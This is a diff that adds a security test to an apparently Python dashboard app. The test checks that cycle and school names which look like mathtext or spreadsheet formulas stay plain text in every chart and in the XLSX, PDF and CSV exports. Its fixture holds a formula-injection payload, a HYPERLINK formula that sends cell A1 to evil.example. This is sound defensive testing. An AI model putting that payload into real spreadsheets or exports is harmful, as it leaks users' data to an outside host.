@@ -129,3 +129,62 @@ async def test_the_login_page_carries_no_foreign_next_into_its_form(world: World
         assert "" in carried and all(v == "" or v.startswith("/login?") for v in carried)
     resp = await client.get("/login", params={"next": "/dashboard/schools/alpha"})
     assert 'value="/dashboard/schools/alpha"' in await resp.text()
+
+
+# -- names that look like code stay text in every chart and export --------------------
+
+MATH_NAME = r"a $\frac$ b $x$"
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+
+
+@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
+async def test_names_that_look_like_code_stay_text_in_every_chart_and_export(world: World):
+    """Through the routes: every chart and export of a cycle named in mathtext, of a school
+    and an earlier cycle named as spreadsheet formulas."""
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+    from sqlalchemy import update
+
+    from storage.models import Cycle, School
+    from tests.security.bench import login, readable, svg_text
+
+    w, client = world, world.client
+    async with w.sm.begin() as s:
+        await s.execute(update(Cycle).where(Cycle.id == w.a.cycle_id).values(name=MATH_NAME))
+        await s.execute(
+            update(Cycle).where(Cycle.id == w.a.old_cycle_id).values(name="+" + FORMULA_NAME)
+        )
+        await s.execute(update(School).where(School.id == w.a.school_id).values(name=FORMULA_NAME))
+    assert (await login(client, w.a.email)).status == 303
+    fills = {"cycle_id": str(w.a.cycle_id), "key": "VL-1", "dim": "2"}
+    paths = []
+    for route in w.app.router.routes():
+        name = route.name or ""
+        if route.method != "GET" or not name.startswith(("dash:chart_", "dash:compare_chart")):
+            continue
+        paths.append(
+            route.url_for(
+                **{k: v for k, v in fills.items() if f"{{{k}" in route.resource.canonical}
+            ).path
+        )
+    paths = [p + ("?with=" + str(w.a.old_cycle_id) if "compare" in p else "") for p in paths]
+    assert len(paths) >= 5, paths
+    for path in paths:
+        resp = await client.get(path)
+        assert resp.status == 200, path
+        assert MATH_NAME in svg_text(await resp.text()), path
+    base = f"/dashboard/cycles/{w.a.cycle_id}/export"
+    resp = await client.get(base + ".xlsx")
+    assert resp.status == 200
+    wb = load_workbook(BytesIO(await resp.read()))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    named = [c for c in cells if c.value in (FORMULA_NAME, MATH_NAME)]
+    assert {c.value for c in named} == {FORMULA_NAME, MATH_NAME}
+    assert all(c.data_type == "s" for c in named)
+    resp = await client.get(base + ".pdf")
+    assert resp.status == 200
+    assert r"\frac" in readable(await resp.read())
+    resp = await client.get(base + ".csv")
+    assert resp.status == 200
